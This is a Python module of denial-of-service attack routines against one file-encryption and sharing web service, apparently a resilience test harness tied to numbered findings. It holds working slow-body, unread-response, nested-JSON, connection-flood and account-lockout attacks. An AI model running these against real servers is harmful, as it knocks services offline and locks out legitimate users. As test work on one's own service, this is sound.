"""The attacks: each is what one connection of an attacker does, again and again, from ever other addresses.

An attacker knows what is bounded and how: it takes as large a part as it is given, halves it when it is refused, and
keeps what it has got at the slowest pace that the server allows.
"""
import asyncio
import json
import random
from dataclasses import dataclass
from typing import Callable

from .connection import Ended

JSON = "application/json"
FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=B"
PACE = 1_000
"""Bytes a second of a body that is held open; the server asks for 500 of them on average."""
ANNOUNCED = 100_000_000
"""Bytes that a body which never ends claims to have: as many as there is room for."""
INTERVAL = 12


@dataclass(frozen=True)
class Attack:
    words: str
    session: Callable
    workers: int
    """Connections that it tries to have at once."""
    pause: float = 1
    """Seconds before a connection that ended is replaced."""


class Appetite:
    """How many bytes a worker asks for: all that it may get."""

    def __init__(self, most, least=64):
        self.most, self.least, self.size = most, least, most

    def refused(self):
        self.size = max(self.least, self.size // 2)

    def granted(self):
        self.size = min(self.most, self.size * 2)


async def hold_body(worker, path, kind, size, start, filler, **fields):
    """Sends all of a body but its end, and then no more than keeps it alive."""
    async with worker.connect() as connection:
        await connection.send(connection.head("POST", path, size, kind, **fields) + start)
        left = size - len(start) - min(200 * PACE, size // 8)
        # A refusal comes at once, and then there is no need to send megabytes.
        await asyncio.sleep(0.1)
        if filler and left > 0:
            await connection.send(filler * (left // len(filler)) + filler[:left % len(filler)])
        with worker.holding(connection):
            await connection.trickle(b"a" * (PACE * INTERVAL), INTERVAL)


async def slow_json(worker):
    """F2: JSON bodies that are never whole."""
    size = worker.appetite(16 << 20).size
    await hold_body(worker, "/api/encrypt", JSON, size, b'{"message":"', b"a" * 65536)


async def slow_logins(worker):
    """F4: forms of the admin area, as large as they may be, and never whole."""
    await hold_form(worker, "/admin-login")


async def slow_unlocks(worker):
    """F4: the same of shares, by somebody who has a link."""
    await hold_form(worker, random.choice([f"/api/pacshare/{worker.share}/unlock", f"/pickup/{worker.share}"]))


async def hold_form(worker, path):
    size = worker.appetite(262_000).size
    async with worker.connect() as connection:
        await connection.send(connection.head("POST", path, size, FORM) + b"a=" + b"a" * (size - 4))
        with worker.holding(connection):
            await connection.trickle(b"", INTERVAL)


async def parts_in_memory(worker):
    """F4: a form that repeats its largest field, which the server has to keep, and then goes on slowly."""
    part = b'--B\r\nContent-Disposition: form-data; name="public_key"\r\n\r\n' + b"A" * 65_000 + b"\r\n"
    start = part * 90 + b'--B\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
    await hold_body(worker, "/api/pacshare", MULTIPART, ANNOUNCED, start, b"")


async def slow_uploads(worker):
    """F5: files that never end, for the places of long requests."""
    start = b'--B\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
    path = random.choice(["/api/encrypt", "/api/decrypt", "/api/pacshare"])
    async with worker.connect() as connection:
        await connection.send(connection.head("POST", path, ANNOUNCED, MULTIPART) + start + b"a" * 1_000)
        with worker.holding(connection):
            await connection.trickle(b"a" * (PACE * INTERVAL), INTERVAL)


async def unfinished_files(worker):
    """F9: uploads of as many files as a form may have, of which the last one never ends."""
    part = b'--B\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\na\r\n'
    fields = b"".join(
        b'--B\r\nContent-Disposition: form-data; name="%s"\r\n\r\nsecret enough\r\n' % name
        for name in (b"enc_password", b"pickup_password"))
    start = fields + part * 96 + part[:-3]
    async with worker.connect() as connection:
        await connection.send(connection.head("POST", "/api/pacshare", ANNOUNCED, MULTIPART) + start)
        with worker.holding(connection):
            await connection.trickle(b"a" * (PACE * INTERVAL), INTERVAL)


async def hold_answer(worker, head, body):
    """Sends a request and takes only as much of the answer as keeps it alive."""
    async with worker.connect(receive_buffer=4096) as connection:
        await connection.send(head(connection))
        await asyncio.sleep(0.1)
        await connection.send(body)
        status = await connection.status(seconds=120)
        if status != 200:
            raise Ended(status)
        worker.count(status)
        with worker.holding(connection):
            while True:
                await asyncio.sleep(INTERVAL)
                await connection.read(1024)


async def unread_texts(worker):
    """F3: answers in JSON that nobody reads."""
    size = worker.appetite(12 << 20).size
    body = json.dumps({"message": "a" * size, "password": "secret enough", "algorithm": "xchacha"}).encode()
    await hold_answer(worker, lambda each: each.head("POST", "/api/encrypt", len(body), JSON), body)


async def unread_heads(worker):
    """F3: the heads of a share whose files have the largest heads, for a ticket of its own."""
    ticket = await worker.ticket()
    body = json.dumps({"ticket": ticket}).encode()
    path = f"/api/pacshare/{worker.heads}/header"
    await hold_answer(worker, lambda each: each.head("POST", path, len(body), JSON), body)


async def unread_files(worker):
    """F8: encrypted files that nobody takes, for the room of the spool."""
    size = worker.appetite(9_000_000, least=300_000).size
    body = (
        b'--B\r\nContent-Disposition: form-data; name="enc_password"\r\n\r\nsecret enough\r\n'
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n' + b"a" * size + b"\r\n--B--\r\n")
    await hold_answer(worker, lambda each: each.head("POST", "/api/encrypt", len(body), MULTIPART), body)


async def idle_connections(worker):
    """F10: connections that are kept with a question of no limit."""
    async with worker.connect() as connection:
        with worker.holding(connection):
            while True:
                await connection.send(connection.head("GET", "/healthz"))
                await connection.whole()
                await asyncio.sleep(20)
                connection.look()


async def lock_out(worker):
    """F6: wrong passwords for the share that the visitors pick up, by somebody who has only its link."""
    body = json.dumps({"pickup_password": "a wrong one"}).encode()
    async with worker.connect() as connection:
        await connection.send(
            connection.head("POST", f"/api/pacshare/{worker.share}/unlock", len(body), JSON) + body)
        worker.count(await connection.status())


async def refused_forms(worker):
    """F9: forms that are refused and recorded, each from a network that the audit log does not know."""
    async with worker.connect() as connection:
        await connection.send(connection.head("POST", "/admin-login", 3, FORM, Accept=JSON) + b"a=b")
        worker.count(await connection.status())


async def wrong_logins(worker):
    """F9: logins with a wrong password, which wait for each other."""
    async with worker.connect() as connection:
        await connection.send(connection.head("GET", "/admin-login", Accept=JSON))
        head, body = await connection.whole()
        if b" 200 " not in head.split(b"\r\n")[0]:
            return
        cookie = next(
            line.split(b":", 1)[1].split(b";")[0].strip().decode()
            for line in head.split(b"\r\n") if line.lower().startswith(b"set-cookie:"))
        form = f"csrf_token={json.loads(body)['csrf_token']}&username=operator&password=a+wrong+password".encode()
        await connection.send(
            connection.head("POST", "/admin-login", len(form), FORM, Accept=JSON, Cookie=cookie) + form)
        worker.count(await connection.status())


async def deep_json(worker):
    """F11: JSON of nothing but brackets, which costs a decoder many times its size."""
    nested = (b"[" * 200 + b"]" * 200 + b",") * ((16 << 20) // 401 - 1)
    body = b'{"message":"a","password":"p","x":[' + nested + b"1]}"
    async with worker.connect() as connection:
        await connection.send(connection.head("POST", "/api/encrypt", len(body), JSON))
        await asyncio.sleep(0.1)
        await connection.send(body)
        worker.count(await connection.status())


ATTACKS = {
    "slow-json": Attack("JSON bodies that are never whole", slow_json, 64),
    "slow-logins": Attack("logins that are never whole", slow_logins, 180),
    "slow-unlocks": Attack("forms of shares that are never whole", slow_unlocks, 180),
    "parts-in-memory": Attack("forms whose fields have to be kept", parts_in_memory, 64),
    "slow-uploads": Attack("files that never end", slow_uploads, 224),
    "unfinished-files": Attack("uploads of 97 files that never end", unfinished_files, 100),
    "unread-texts": Attack("texts that nobody reads", unread_texts, 48),
    "unread-heads": Attack("heads of containers that nobody reads", unread_heads, 48),
    "unread-files": Attack("encrypted files that nobody reads", unread_files, 64),
    "idle-connections": Attack("idle connections", idle_connections, 1100, pause=2),
    "lock-out": Attack("wrong passwords for the visitors' share", lock_out, 16, pause=0.2),
    "refused-forms": Attack("refused forms from ever other addresses", refused_forms, 16, pause=0.1),
    "wrong-logins": Attack("wrong logins from ever other addresses", wrong_logins, 8, pause=0.5),
    "deep-json": Attack("deep JSON", deep_json, 8, pause=2),
}
